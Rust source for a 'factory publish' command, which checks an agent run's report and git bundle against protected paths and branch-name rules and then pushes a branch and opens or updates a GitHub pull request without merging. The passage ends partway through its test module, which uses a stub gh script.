//! `factory publish`: brings what a run offers to GitHub, as a branch and a pull request.
//!
//! It is for the one job that may write, which runs nothing of the product and no agent. What it
//! reads comes from a job that ran an agent, and is taken as a claim: every name is checked before
//! git or gh sees it, the commits have to build on the base's history and to leave what is
//! protected alone, and text reaches a page as code only. It never merges.

use std::fmt::Write as _;
use std::fs::File;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::Context as _;
use clap::Parser;
use serde::Deserialize;
use serde_json::json;

use crate::config::{Config, Environment};
use crate::delivery::Links;
use crate::engine::{BRANCHES, Base};
use crate::git::{GitError, Mode, Oid, Remote, Repo, Server, TreeEntry};
use crate::process::{self, Call, Cancel, Stdin, Variables};
use crate::report::github::{Level, annotation, harmless, write_job_files};
use crate::report::markdown::{self, code};
use crate::report::published::{Best, FILE_BYTES, IterationResult, RunReport, SCHEMA, State};
use crate::report::{Outcome, Output};
use crate::text::{Subtree, TreePath, one_line, plural};
use crate::verdict::{Ending, show_score};

use super::exit::{Exit, Failure, OrExit as _};
use super::iterate::start_failure;
use super::run_scenarios::product_root;

/// The label of a run that converged.
const CONVERGED: &str = "factory-converged";
/// The label that invites a merge: for a convergence with the gates as the base has them.
const ACCEPT: &str = "accept-merge-gate";
/// Names, colours and descriptions of the labels.
const LABELS: [(&str, &str, &str); 2] = [
    (CONVERGED, "0e8a16", "The factory's scenarios are satisfied"),
    (
        ACCEPT,
        "1d76db",
        "Scenarios passed, and gates where there are any; ready for a person to merge",
    ),
];
/// A report is not larger.
const REPORT_BYTES: u64 = FILE_BYTES as u64;
/// GitHub takes 65,536 characters.
const BODY_BYTES: usize = 60_000;
/// No call of gh takes longer.
const GH_LIMIT: Duration = Duration::from_secs(5 * 60);

const EXAMPLES: &str = "\
Examples:
  factory publish --base main --bundle run/factory.bundle --report run/report.json
  factory publish --base main --bundle run/factory.bundle --report run/report.json --dry-run

It pushes with GH_TOKEN to GITHUB_REPOSITORY on GITHUB_SERVER_URL; where that is not set, to the
remote `origin` with your own login.

Exit codes: 0 published, or nothing to publish; 2 the report or the bundle makes no sense; 3 git,
gh or GitHub failed.";

/// Bring what a run offers to GitHub: its branch, a pull request, labels or a comment.
#[derive(Debug, Clone, Default, Parser)]
#[command(name = "publish", version, after_help = EXAMPLES)]
pub struct Args {
    /// The branch that the run began from, and the pull request's base
    #[arg(long, value_name = "BRANCH")]
    pub base: String,
    /// The bundle that `iterate --bundle` wrote
    #[arg(long, value_name = "FILE")]
    pub bundle: PathBuf,
    /// The report that `iterate --report` wrote
    #[arg(long, value_name = "FILE")]
    pub report: PathBuf,
    /// Check everything, say what would be done, and do nothing
    #[arg(long)]
    pub dry_run: bool,
    /// The root of the product [default: from here up the first with dark-factory.yaml, else the repository's top]
    #[arg(long, value_name = "DIR")]
    pub workdir: Option<PathBuf>,
}

/// Runs the command.
///
/// # Errors
/// The report or the bundle makes no sense, or git, gh or GitHub failed.
pub fn run(args: &Args, env: &Environment) -> anyhow::Result<Exit> {
    let cancel = Cancel::on_signals().context("can't watch for signals")?;
    run_to(Output::stdout(true), &cancel, args, env)
}

fn run_to(
    mut output: Output,
    cancel: &Cancel,
    args: &Args,
    env: &Environment,
) -> anyhow::Result<Exit> {
    let mut say = Say { output: &mut output, github: env.is_github() };
    let mut report = read_report(&env.current_dir().join(&args.report))?;
    // A process worked on it when this was written, and was killed before it could say more: the job is over.
    if report.outcome.is_none() && matches!(report.state, State::Active | State::CutShort) {
        report.set_end(Outcome::Interrupted, None, None);
    }
    let claim = check_report(&report, &args.base).map_err(|why| {
        Failure::because(Exit::Usage, harmless(&format!("the report is refused: {why}")))
    })?;
    let root = product_root(args.workdir.as_deref(), env)?;
    let repo = Repo::discover(&root, env.for_tools()).map_err(git_failure)?;
    // Where this stands decides what an agent may have written, and no claim does.
    let at = repo.subtree(&root).map_err(git_failure)?;
    if at.as_str() != report.product {
        let shown = |product: &str| match product {
            "" => "the whole repository".to_owned(),
            product => format!("`{}`", one_line(product, 200)),
        };
        let message = format!(
            "the report is refused: its run was of {}, and this publishes {}; name the run's product with --workdir",
            shown(&report.product),
            shown(at.as_str())
        );
        return Err(Failure::because(Exit::Usage, harmless(&message)));
    }
    let Some(commit) = offer(args, env, &repo, &root, &claim)? else {
        let why = format!("No candidate is better than the base. {}", sentence(&claim));
        say.notice("Nothing to publish", &why);
        let page = markdown::page(&report, BODY_BYTES);
        write_job_files(env, &[], Some(&format!("## Nothing to publish\n\n{page}")))?;
        output.finish().context("can't write to standard output")?;
        return Ok(Exit::Satisfied);
    };
    if args.dry_run {
        let labels = labels(claim.outcome).join(", ");
        say.line(&format!("would push {commit} to {}", claim.branch));
        say.line(&format!("would open or update a pull request: {}", title(&claim)));
        say.line(&format!("labels: {}", if labels.is_empty() { "none" } else { &labels }));
        output.finish().context("can't write to standard output")?;
        return Ok(Exit::Satisfied);
    }
    let place = Place::of(env)?;
    let gh = Gh::new(env, &place, &root, cancel)?;
    repo.push(&place.remote(), &commit, claim.branch)
        .map_err(|error| match error {
            GitError::NotStarted { .. } => anyhow::Error::new(error),
            // The server's words; they choose a message and decide nothing.
            GitError::Failed { ref stderr, .. }
                if stderr.contains(&format!("'refs/heads/{BRANCHES}' exists")) =>
            {
                anyhow::Error::new(error).context(format!(
                    "the branch {} was not pushed: the branch `{BRANCHES}` of the remote is in its way; rename that one there, and publish again",
                    claim.branch
                ))
            }
            _ => anyhow::Error::new(error).context(format!(
                "the branch {} was not pushed; the token has to write contents, and nobody else may have pushed to the branch",
                claim.branch
            )),
        })
        .or_exit(Exit::Broken)?;
    say.line(&format!("pushed {commit} to {}", claim.branch));
    let url = pull_request(&gh, args, &claim)?;
    say.notice("Published", &format!("{} {url}", sentence(&claim)));
    let page = format!("## Published\n\n{} {}\n", sentence(&claim), code(&url, 300));
    write_job_files(env, &[("pull_request".to_owned(), url)], Some(&page))?;
    output.finish().context("can't write to standard output")?;
    Ok(Exit::Satisfied)
}

/// What is told on the way.
struct Say<'a> {
    output: &'a mut Output,
    github: bool,
}

impl Say<'_> {
    fn line(&mut self, text: &str) {
        self.output.line(harmless(text));
    }

    fn notice(&mut self, title: &str, text: &str) {
        if self.github {
            self.output.line(annotation(Level::Notice, title, text));
        } else {
            self.line(&format!("{title}: {text}"));
        }
    }
}

fn read_report(path: &Path) -> anyhow::Result<RunReport> {
    let shown = path.display();
    let unusable = || format!("the report `{shown}` can't be used");
    let file = File::open(path).with_context(unusable).or_exit(Exit::Usage)?;
    let mut bytes = Vec::new();
    file.take(REPORT_BYTES + 1)
        .read_to_end(&mut bytes)
        .with_context(unusable)
        .or_exit(Exit::Usage)?;
    if bytes.len() as u64 > REPORT_BYTES {
        let message = format!("the report `{shown}` has more than {REPORT_BYTES} bytes");
        return Err(Failure::because(Exit::Usage, message));
    }
    // What a report says that is none stands in the message of the error.
    let none = |error: serde_json::Error| {
        let why = one_line(&error.to_string(), 300);
        let message = format!("the report `{shown}` is no report of a run: {why}");
        Failure::because(Exit::Usage, harmless(&message))
    };
    let version: Version = serde_json::from_slice(&bytes).map_err(none)?;
    if version.schema != SCHEMA {
        let message = format!(
            "the report `{shown}` has schema {}, and this version reads {SCHEMA}; publish with the version that made it",
            version.schema
        );
        return Err(Failure::because(Exit::Usage, message));
    }
    serde_json::from_slice(&bytes).map_err(none)
}

/// What is read of a report first.
#[derive(Deserialize)]
struct Version {
    schema: u32,
}

/// A report whose every name and number was checked.
struct Claim<'a> {
    report: &'a RunReport,
    outcome: Outcome,
    branch: &'a str,
    best: Option<&'a Best>,
}

/// Checks everything of the report that decides or names something.
fn check_report<'a>(report: &'a RunReport, base: &str) -> Result<Claim<'a>, String> {
    let shown = |text: &str| format!("`{}`", one_line(text, 80));
    if !is_branch_name(base) {
        return Err(format!("--base {} is no name of a branch", shown(base)));
    }
    if report.run.as_str().len() > 64 {
        return Err(format!("the run's id {} is too long", shown(report.run.as_str())));
    }
    let branch = report.branch.as_deref().unwrap_or_default();
    if branch != format!("factory/{}", report.run) {
        return Err(format!("its branch is {}, not factory/{}", shown(branch), report.run));
    }
    let Some(outcome) = report.outcome else {
        return Err("it does not say what the run came to".to_owned());
    };
    match &report.base_branch {
        Some(branch) if branch != base => {
            return Err(format!("the run began from {}, not from {}", shown(branch), shown(base)));
        }
        _ => {}
    }
    let candidates = report.iterations.iter().filter_map(|one| one.commit.as_deref());
    let best = report.best.iter().map(|best| best.commit.as_str());
    for commit in [report.base.as_str()].into_iter().chain(candidates).chain(best) {
        Oid::parse(commit).map_err(|_| format!("{} is no id of a commit", shown(commit)))?;
    }
    let is_score = |score: f64| (0.0..=1.0).contains(&score);
    let best = report.best.as_ref().and_then(|best| best.score);
    let scores = report.iterations.iter().filter_map(|one| one.score).chain(best);
    if let Some(score) = scores.chain(report.final_score).find(|score| !is_score(*score)) {
        return Err(format!("{score} is no score"));
    }
    if !is_score(report.threshold) || report.threshold == 0.0 {
        return Err(format!("{} is no threshold", report.threshold));
    }
    if report.final_score != best {
        return Err("its final score is not that of the candidate it offers".to_owned());
    }
    let converged = outcome.is_satisfied();
    if report.satisfied != converged
        || (report.exit_code == Some(0)) != converged
        || report.state != outcome.state()
    {
        return Err(
            "its outcome, state, exit code and satisfaction contradict one another".to_owned()
        );
    }
    if let Some(best) = &report.best {
        check_best(report, best, outcome)?;
    }
    if outcome.has_converged() && !best.is_some_and(|best| reaches(best, report.threshold)) {
        return Err("it says converged, and its iterations do not".to_owned());
    }
    // What is the base itself is no offer, whatever the report says of it.
    let best = report.best.as_ref().filter(|best| best.commit != report.base);
    Ok(Claim { report, outcome, branch, best })
}

/// Checks that the candidate that is offered is what its iteration says.
fn check_best(report: &RunReport, best: &Best, outcome: Outcome) -> Result<(), String> {
    let judged = report.iterations.iter().rev().find(|one| one.iteration == best.iteration);
    let agrees = judged.is_some_and(|one| {
        one.commit.as_ref() == Some(&best.commit)
            && one.score == best.score
            && one.gates_changed == best.gates_changed
    });
    let passed = judged.is_some_and(|one| one.result == IterationResult::Judged);
    if !agrees || (outcome.has_converged() && !passed) {
        let word = if outcome.has_converged() { "it says converged" } else { "it offers one" };
        return Err(format!("{word}, and its iterations do not"));
    }
    let listed = judged.and_then(|one| one.details.as_ref());
    let changed =
        best.gates_changed || listed.is_some_and(|one| !one.changed_gate_files.is_empty());
    if outcome.is_satisfied() && changed {
        return Err("it says converged, and that the gates were changed".to_owned());
    }
    Ok(())
}

/// Returns whether a score reaches the threshold, but for the rounding of sums of weights.
fn reaches(score: f64, threshold: f64) -> bool {
    score + 1e-9 >= threshold
}

/// Returns whether git takes `name` as a branch, and no program as an option.
fn is_branch_name(name: &str) -> bool {
    let part = |part: &str| {
        !part.is_empty()
            && !part.starts_with('.')
            && !part.ends_with('.')
            && !part.ends_with(".lock")
    };
    name.len() <= 250
        && !name.starts_with('-')
        && name != "@"
        && name.split('/').all(part)
        && !name.contains("..")
        && !name.contains("@{")
        && !name.chars().any(|c| c.is_control() || c.is_whitespace() || "~^:?*[\\\"'`$".contains(c))
}

/// Checks the bundle, takes its objects in and returns the commit that is offered; no ref moves.
/// None where the run offers nothing.
fn offer(
    args: &Args,
    env: &Environment,
    repo: &Repo,
    root: &Path,
    claim: &Claim<'_>,
) -> anyhow::Result<Option<Oid>> {
    let Some(best) = claim.best else { return Ok(None) };
    let refused = |why: String| {
        Failure::because(Exit::Usage, harmless(&format!("the bundle is refused: {why}")))
    };
    let base_tip = base_tip(repo, &args.base)?;
    let base = Oid::parse(&claim.report.base).or_exit(Exit::Usage)?;
    let commit = Oid::parse(&best.commit).or_exit(Exit::Usage)?;
    let known = repo.resolve(base.as_str()).map_err(git_failure)?.is_some();
    if !known || !repo.is_ancestor(&base, &base_tip).map_err(git_failure)? {
        return Err(refused(format!(
            "the run began at {base}, which is not in the history of `{}`",
            args.base
        )));
    }
    let path = env.current_dir().join(&args.bundle);
    if !path.is_file() {
        let message = format!(
            "the report offers {}, and there is no bundle `{}` that holds it",
            commit.short(),
            path.display()
        );
        return Err(Failure::because(Exit::Usage, message));
    }
    let unusable = |error: GitError| match error {
        GitError::NotStarted { .. } => git_failure(error),
        _ => Failure::of(
            Exit::Usage,
            anyhow::Error::new(error)
                .context(format!("the bundle `{}` can't be used", path.display())),
        )
        .into(),
    };
    let refs = repo.look_into_bundle(&path).map_err(unusable)?;
    let wanted = format!("refs/heads/{}", claim.branch);
    let tip = match refs.as_slice() {
        [(name, tip)] if *name == wanted => tip.clone(),
        _ => {
            let names: Vec<&str> = refs.iter().map(|(name, _)| name.as_str()).collect();
            let names = match names.as_slice() {
                [] => "no ref".to_owned(),
                names => one_line(&names.join(", "), 200),
            };
            return Err(refused(format!("it holds {names}, not {wanted} alone")));
        }
    };
    repo.fetch_bundle(&path).map_err(unusable)?;
    let linear = repo.is_chain(&base, &tip).map_err(unusable)?;
    let apart = repo.merge_base(&base_tip, &tip).map_err(unusable)?.as_ref() == Some(&base);
    if !linear || !apart {
        return Err(refused(format!("its commits are no chain that begins at {base}")));
    }
    let within = repo.resolve(commit.as_str()).map_err(unusable)?.is_some()
        && repo.is_ancestor(&base, &commit).map_err(unusable)?
        && repo.is_ancestor(&commit, &tip).map_err(unusable)?;
    if !within {
        return Err(refused(format!("it does not hold {commit}, which the report offers")));
    }
    let config = Base::of(repo, root, &base).and_then(|mut base| base.settings());
    let config = config.map_err(start_failure)?;
    let at = repo.subtree(root).map_err(git_failure)?;
    let touched = protected(repo, &config, &at, &base, &commit).map_err(unusable)?;
    if let Some(first) = touched.first() {
        return Err(refused(format!(
            "it changes {} that an agent may not write, `{first}` for one",
            plural(touched.len(), "path")
        )));
    }
    Ok(Some(commit))
}

/// Returns the commit of the branch as this checkout has it from the remote, else its own.
fn base_tip(repo: &Repo, base: &str) -> anyhow::Result<Oid> {
    for name in [format!("refs/remotes/origin/{base}"), format!("refs/heads/{base}")] {
        if let Some(tip) = repo.resolve(&name).map_err(git_failure)? {
            return Ok(tip);
        }
    }
    let message =
        format!("there is no branch `{base}` here; fetch it, or name another with --base");
    Err(Failure::because(Exit::Usage, message))
}

/// Returns the paths in which two commits differ that no delivery may have changed: what is
/// protected by the settings of the base, and submodules. The factory's own commits on the branch
/// hold feedback and its count.
fn protected(
    repo: &Repo,
    config: &Config,
    at: &Subtree,
    base: &Oid,
    commit: &Oid,
) -> Result<Vec<TreePath>, GitError> {
    let (before, after) = (repo.list(base)?, repo.list(commit)?);
    let links = Links::of(repo.read_links(&before)?);
    let policy = config.delivery_policy(links, at).map_err(|error| GitError::Io {
        doing: "use the settings' protected paths".to_owned(),
        source: std::io::Error::other(error),
    })?;
    let differ = |path: &&TreePath| before.get(*path) != after.get(*path);
    let is_module = |entry: Option<&TreeEntry>| entry.is_some_and(|e| e.mode == Mode::Submodule);
    let mut touched: Vec<TreePath> = before
        .keys()
        .chain(after.keys().filter(|path| !before.contains_key(path)))
        .filter(differ)
        .filter(|path| {
            let own = is_own(path, at) && after.get(*path).is_none_or(|e| e.mode == Mode::File);
            let module = is_module(before.get(*path)) || is_module(after.get(*path));
            module || ((policy.is_protected(path) || policy.is_outside(path)) && !own)
        })
        .cloned()
        .collect();
    touched.sort();
    Ok(touched)
}

fn is_own(path: &TreePath, at: &Subtree) -> bool {
    let dir = at.path("artifacts/factory/");
    let Some(name) = path.as_bytes().strip_prefix(dir.as_bytes()) else { return false };
    let number = name
        .strip_prefix(b"feedback_iter_")
        .and_then(|rest| rest.strip_suffix(b".md"))
        .is_some_and(|digits| !digits.is_empty() && digits.iter().all(u8::is_ascii_digit));
    number || name == b"iteration_count.txt"
}

fn git_failure(error: GitError) -> anyhow::Error {
    let exit = if error.is_request() { Exit::Usage } else { Exit::Broken };
    Failure::of(exit, error).into()
}

/// Where the repository is on the network.
struct Place {
    /// Server, host, repository and token; none for the remote of the checkout.
    server: Option<(String, String, String, String)>,
}

impl Place {
    fn of(env: &Environment) -> anyhow::Result<Self> {
        let text = |name: &str| env.get(name).map(|value| value.to_string_lossy().into_owned());
        let Some(url) = text("GITHUB_SERVER_URL") else { return Ok(Self { server: None }) };
        let broken = |message: String| Err(Failure::because(Exit::Broken, message));
        let url = url.trim_end_matches('/').to_owned();
        let host = url.strip_prefix("https://").unwrap_or_default().to_owned();
        let plain = |text: &str, more: &str| {
            !text.is_empty()
                && !text.starts_with(['-', '.'])
                && text.chars().all(|c| c.is_ascii_alphanumeric() || more.contains(c))
        };
        if !plain(&host, "-.:") {
            return broken(format!("GITHUB_SERVER_URL is `{url}`; it has to be `https://HOST`"));
        }
        let repository = text("GITHUB_REPOSITORY").unwrap_or_default();
        let named = repository.split_once('/').is_some_and(|(owner, name)| {
            plain(owner, "-_.") && plain(name.trim_start_matches('.'), "-_.")
        });
        if !named {
            return broken(format!(
                "GITHUB_REPOSITORY is `{repository}`; it has to be `OWNER/NAME`"
            ));
        }
        let Some(token) = text("GH_TOKEN").filter(|token| plain(token, "-_.=")) else {
            return broken(
                "GH_TOKEN is not set to a token; give the step `GH_TOKEN: ${{ github.token }}`"
                    .into(),
            );
        };
        Ok(Self { server: Some((url, host, repository, token)) })
    }

    fn remote(&self) -> Remote<'_> {
        match &self.server {
            None => Remote::Named("origin"),
            Some((url, _, repository, token)) => Remote::Server(Server { url, repository, token }),
        }
    }
}

/// The GitHub CLI.
struct Gh<'a> {
    program: PathBuf,
    env: Variables,
    dir: &'a Path,
    cancel: &'a Cancel,
    secret: Option<String>,
}

impl<'a> Gh<'a> {
    fn new(
        env: &Environment,
        place: &Place,
        dir: &'a Path,
        cancel: &'a Cancel,
    ) -> anyhow::Result<Self> {
        let Some(program) = env.find_program("gh") else {
            let message = "the GitHub CLI `gh` is not on PATH; install it (https://cli.github.com)";
            return Err(Failure::because(Exit::Broken, message));
        };
        let mut variables = env.for_tools();
        let mut set = |name: &str, value: &str| variables.insert(name.into(), value.into());
        for name in ["GH_PROMPT_DISABLED", "GH_NO_UPDATE_NOTIFIER", "NO_COLOR"] {
            set(name, "1");
        }
        let secret = env.get("GH_TOKEN").map(|token| token.to_string_lossy().into_owned());
        if let Some(token) = &secret {
            set("GH_TOKEN", token);
        }
        if let Some((_, host, repository, token)) = &place.server {
            set("GH_HOST", host);
            set("GH_REPO", &format!("{host}/{repository}"));
            // What gh reads for a server that is not github.com.
            set("GH_ENTERPRISE_TOKEN", token);
        }
        Ok(Self { program, env: variables, dir, cancel, secret })
    }

    /// Runs gh and returns what it printed.
    fn run(&self, args: &[&str], stdin: Option<String>) -> anyhow::Result<String> {
        let stdin = stdin.map_or(Stdin::Null, |text| Stdin::Bytes(text.into_bytes()));
        let call = Call::new(&self.program, self.dir)
            .args(args)
            .env(self.env.clone())
            .stdin(stdin)
            .limit(GH_LIMIT);
        let finished = process::run(&call, self.cancel, &mut |_, _| {});
        let mut said = finished.stderr.text();
        if let Some(secret) = &self.secret {
            said = said.replace(secret.as_str(), "***");
        }
        let said = one_line(&said, 400);
        let what = format!("`gh {}`", args.iter().take(2).copied().collect::<Vec<_>>().join(" "));
        let (exit, message) = match finished.ending {
            Ending::Exited { code: 0 } => return Ok(finished.stdout.text()),
            Ending::Exited { code: 4 } => (
                Exit::Broken,
                format!(
                    "gh is not logged in: set GH_TOKEN, or run `gh auth login`; it says: {said}"
                ),
            ),
            Ending::Exited { code } => (Exit::Broken, format!("{what} exited with {code}: {said}")),
            Ending::CouldNotStart { why } => {
                (Exit::Broken, format!("{what} could not be started: {why}"))
            }
            Ending::Signalled { signal } => {
                (Exit::Broken, format!("{what} was ended by signal {signal}"))
            }
            Ending::TimedOut { .. } | Ending::Idle { .. } => {
                (Exit::Broken, format!("{what} was ended after 5 minutes"))
            }
            Ending::Interrupted => (
                self.cancel.tripped().map_or(Exit::Broken, Exit::Interrupted),
                format!("{what} was interrupted; publish again, which goes on where this stopped"),
            ),
        };
        Err(Failure::because(exit, message))
    }

    fn json<T: serde::de::DeserializeOwned>(&self, args: &[&str]) -> anyhow::Result<T> {
        let text = self.run(args, None)?;
        serde_json::from_str(&text)
            .with_context(|| format!("`gh {}` answered what makes no sense here", args[0]))
    }

    /// Sends `body` by REST. `gh pr edit` asks for projects too, which a job's token may not read.
    fn send(&self, method: &str, path: &str, body: &serde_json::Value) -> anyhow::Result<()> {
        let args = ["api", "--method", method, path, "--silent", "--input", "-"];
        self.run(&args, Some(body.to_string())).map(drop)
    }
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct PullRequest {
    number: u64,
    url: String,
    is_cross_repository: bool,
    labels: Vec<Label>,
}

#[derive(Deserialize)]
struct Label {
    name: String,
}

#[derive(Deserialize)]
struct Comment {
    id: u64,
    body: Option<String>,
}

/// Opens or updates the pull request, and returns its address.
fn pull_request(gh: &Gh<'_>, args: &Args, claim: &Claim<'_>) -> anyhow::Result<String> {
    let open: Vec<PullRequest> = gh.json(&[
        "pr",
        "list",
        "--head",
        claim.branch,
        "--state",
        "open",
        "--limit",
        "100",
        "--json",
        "number,url,isCrossRepository,labels",
    ])?;
    // A fork may have a branch of the same name.
    let known = open.into_iter().find(|one| !one.is_cross_repository);
    let (title, body) = (title(claim), body(claim.report, &args.base));
    let (number, url, has) = match known {
        Some(known) => {
            let path = format!("repos/{{owner}}/{{repo}}/pulls/{}", known.number);
            let page = json!({ "title": title, "body": body, "base": args.base });
            gh.send("PATCH", &path, &page)?;
            (known.number, known.url, known.labels)
        }
        None => {
            let create = [
                "pr",
                "create",
                "--head",
                claim.branch,
                "--base",
                &args.base,
                "--title",
                &title,
                "--body-file",
                "-",
            ];
            let said = gh.run(&create, Some(body))?;
            let url = said.lines().rev().map(str::trim).find(|line| !line.is_empty());
            let url = url.unwrap_or_default().to_owned();
            let number = url.rsplit('/').next().and_then(|number| number.parse().ok());
            let number = number.with_context(|| {
                format!("`gh pr create` answered `{}`, which is no address", one_line(&url, 120))
            })?;
            (number, url, Vec::new())
        }
    };
    set_labels(gh, number, &labels(claim.outcome), &has)?;
    if !claim.outcome.is_satisfied() {
        comment(gh, number, claim)?;
    }
    Ok(url)
}

/// Gives the pull request the labels of this outcome, and takes those of an earlier one away.
fn set_labels(gh: &Gh<'_>, number: u64, wanted: &[&str], has: &[Label]) -> anyhow::Result<()> {
    let path = format!("repos/{{owner}}/{{repo}}/issues/{number}/labels");
    for (name, ..) in LABELS {
        if !wanted.contains(&name) && has.iter().any(|label| label.name == name) {
            gh.run(&["api", "--method", "DELETE", &format!("{path}/{name}"), "--silent"], None)?;
        }
    }
    if wanted.is_empty() {
        return Ok(());
    }
    for (name, color, description) in LABELS.iter().filter(|(name, ..)| wanted.contains(name)) {
        let create =
            ["label", "create", name, "--force", "--color", color, "--description", description];
        gh.run(&create, None)?;
    }
    gh.send("POST", &path, &json!({ "labels": wanted }))
}

/// Says on the pull request why the run stopped; a second time, the comment is changed.
fn comment(gh: &Gh<'_>, number: u64, claim: &Claim<'_>) -> anyhow::Result<()> {
    let marker = format!("<!-- dark-factory: {} -->", claim.report.run);
    let reason = code(claim.report.reason.as_deref().unwrap_or_default(), 300);
    let advice = claim.report.advice().unwrap_or_default();
    let text = format!("{marker}\n**{}**\n\n{reason}\n\n{advice}\n", sentence(claim));
    let list = format!("repos/{{owner}}/{{repo}}/issues/{number}/comments?per_page=100");
    let comments: Vec<Comment> = gh.json(&["api", &list])?;
    let known = comments
        .iter()
        .find(|one| one.body.as_deref().is_some_and(|body| body.starts_with(&marker)));
    match known {
        Some(known) => {
            let path = format!("repos/{{owner}}/{{repo}}/issues/comments/{}", known.id);
            gh.send("PATCH", &path, &json!({ "body": text }))
        }
        None => {
            let number = number.to_string();
            gh.run(&["pr", "comment", &number, "--body-file", "-"], Some(text)).map(drop)
        }
    }
}

/// Returns the labels of an outcome. Where the gates were changed a person has to look first, so
/// nothing invites a merge.
fn labels(outcome: Outcome) -> Vec<&'static str> {
    match outcome {
        Outcome::Converged => vec![CONVERGED, ACCEPT],
        Outcome::ConvergedGatesChanged => vec![CONVERGED],
        _ => Vec::new(),
    }
}

fn sentence(claim: &Claim<'_>) -> String {
    format!("{}.", claim.outcome.title())
}

fn title(claim: &Claim<'_>) -> String {
    let (outcome, score) = (claim.outcome.headline(), show_score(claim.report.final_score));
    format!("Dark Factory: {outcome} at {score} ({})", claim.report.run)
}

fn body(report: &RunReport, base: &str) -> String {
    let mut body = markdown::page(report, BODY_BYTES);
    let _ = write!(
        body,
        "\n---\n\nA run of the convergence loop from {} at {} made this branch; it ends at the best \
         candidate. The agent shared a machine with the loop that judged it: this page is what \
         that job says. Nothing is merged by itself.\n",
        code(base, 250),
        code(report.base.get(..10).unwrap_or_default(), 10),
    );
    body
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::os::unix::fs::PermissionsExt as _;

    use super::*;
    use crate::clock::Timestamp;
    use crate::event::{Tier, Usage};
    use crate::git::ObjectFormat;
    use crate::git::testing::{Fixture, fixture, git};
    use crate::id::RunId;
    use crate::report::NextStep;
    use crate::report::published::{
        Delivery, DroppedPath, Iteration, IterationDetails, State, TurnReport,
    };

    const RUN: &str = "20261120-091500-0001";
    const BRANCH: &str = "factory/20261120-091500-0001";

    /// A gh that writes down how it was called, and answers from files beside it.
    const GH: &str = r#"#!/bin/sh
cd "$(dirname "$0")" || exit 9
for word; do line="$line $word"; done
printf '>%s\n' "$line" >>log
env >>gh-env
case $line in *--body-file*|*--input*) sed 's/^/| /' >>log; echo >>log ;; esac
[ ! -e exit ] || { echo "gh says no" >&2; exit "$(cat exit)"; }
case $line in
  " pr list"*) cat list 2>/dev/null || echo '[]' ;;
  " pr create"*)
    echo '[{"number":7,"url":"https://git.example/o/r/pull/7","isCrossRepository":false,"labels":[{"name":"accept-merge-gate"}]}]' >list
    echo https://git.example/o/r/pull/7 ;;
  *comments[?]per_page*) cat comments 2>/dev/null || echo '[]' ;;
  " pr comment"*) echo '[{"id":99,"body":"<!-- dark-factory: 20261120-091500-0001 -->\\nold"}]' >comments ;;
esac
"#;

    /// A repository in which a run was, a remote, and a checkout of it in which is published.
    struct Bench {
        made: Fixture,
        base: Oid,
    }

    impl Bench {
        fn new() -> Self {
            let made = fixture(ObjectFormat::Sha1);
            let tree = made.tree(&[("a", "0"), ("scenarios/s.md", "s")]);
            let base = made.commit(&tree, &[&made.head()]);
            let bench = Self { made, base };
            let (top, repo) = (bench.path(""), bench.path("repo"));
            git(&repo, &["reset", "--quiet", "--hard", bench.base.as_str()]);
            git(&top, &["clone", "--quiet", "--bare", "repo", "remote.git"]);
            let url = format!("file://{}", bench.path("remote.git").display());
            git(&top, &["clone", "--quiet", &url, "checkout"]);
            fs::create_dir(bench.path("bin")).unwrap();
            fs::write(bench.path("bin/gh"), GH).unwrap();
            fs::set_permissions(bench.path("bin/gh"), fs::Permissions::from_mode(0o755)).unwrap();
            bench
        }

        fn path(&self, path: &str) -> PathBuf {
            self.made.dir.path().join(path)
        }

        /// Makes a commit of files beside the base's.
        fn commit(&self, parent: &Oid, files: &[(&str, &str)]) -> Oid {
            let base = [("a", "0"), ("scenarios/s.md", "s")];
            let kept = base.iter().filter(|(at, _)| files.iter().all(|(other, _)| other != at));
            let files: Vec<_> = kept.chain(files).copied().collect();
            self.made.commit(&self.made.tree(&files), &[parent])
        }

        /// Writes the bundle of the branch as it ends at `tip`.
        fn bundle(&self, refs: &[(&str, &Oid)]) {
            let repo = &self.made.repo;
            for (name, oid) in refs {
                let before = repo.resolve(name).unwrap();
                repo.update_ref(name, oid, before.as_ref(), "").unwrap();
            }
            let names: Vec<&str> = refs.iter().map(|(name, _)| *name).collect();
            repo.bundle(&self.path("factory.bundle"), &names, std::slice::from_ref(&self.base))
                .unwrap();
        }

        fn report(&self, outcome: Outcome, candidates: &[(&Oid, f64)]) -> RunReport {
            let mut all = vec![(&self.base, 0.25)];
            all.extend(candidates);
            let (iteration, (commit, score)) =
                all.iter().enumerate().fold((0, all[0]), |best, (i, one)| {
                    if one.1 > best.1.1 { (i, *one) } else { best }
                });
            let gates_changed = outcome == Outcome::ConvergedGatesChanged;
            let exit_code = match outcome {
                Outcome::Converged => 0,
                Outcome::ConvergedGatesChanged => 5,
                _ => 1,
            };
            let began = Timestamp::from_unix_millis(0);
            RunReport {
                schema: SCHEMA,
                run: RunId::parse(RUN).unwrap(),
                state: outcome.state(),
                outcome: Some(outcome),
                exit_code: Some(exit_code),
                reason: Some("The reason, @all, fixes #1.".into()),
                failure: None,
                satisfied: exit_code == 0,
                final_score: Some(score),
                threshold: 0.8,
                started_at: began,
                last_event_at: began,
                version: "0.1.0".into(),
                graph: "converge".into(),
                node: None,
                iteration: 1,
                base: self.base.to_string(),
                base_branch: Some("main".into()),
                branch: Some(BRANCH.into()),
                tip: commit.to_string(),
                in_place: false,
                product: String::new(),
                agent: Some("replay".into()),
                isolation: Tier::Copy,
                max_iterations: 5,
                turns_taken: 1,
                scenarios: 4,
                question: None,
                resumable: false,
                usage: Usage::default(),
                best: Some(Best {
                    iteration: iteration as u32,
                    commit: commit.to_string(),
                    score: Some(score),
                    better_than_base: iteration > 0,
                    gates_changed,
                }),
                iterations: all
                    .iter()
                    .enumerate()
                    .map(|(i, (commit, score))| Iteration {
                        iteration: i as u32,
                        result: IterationResult::Judged,
                        commit: Some(commit.to_string()),
                        score: Some(*score),
                        passed: 1,
                        failed: 3,
                        skipped: 0,
                        undecided: 0,
                        total: 4,
                        gates: Some(1),
                        gates_changed: gates_changed && i == iteration,
                        turn: None,
                        details: None,
                    })
                    .collect(),
                next: Vec::new(),
            }
        }

        fn publish(&self, report: &RunReport) -> Result<String, (Exit, String)> {
            fs::write(self.path("report.json"), report.to_json().unwrap()).unwrap();
            self.run(&[], &[])
        }

        /// Publishes; returns what was said, or the exit with the error and its causes.
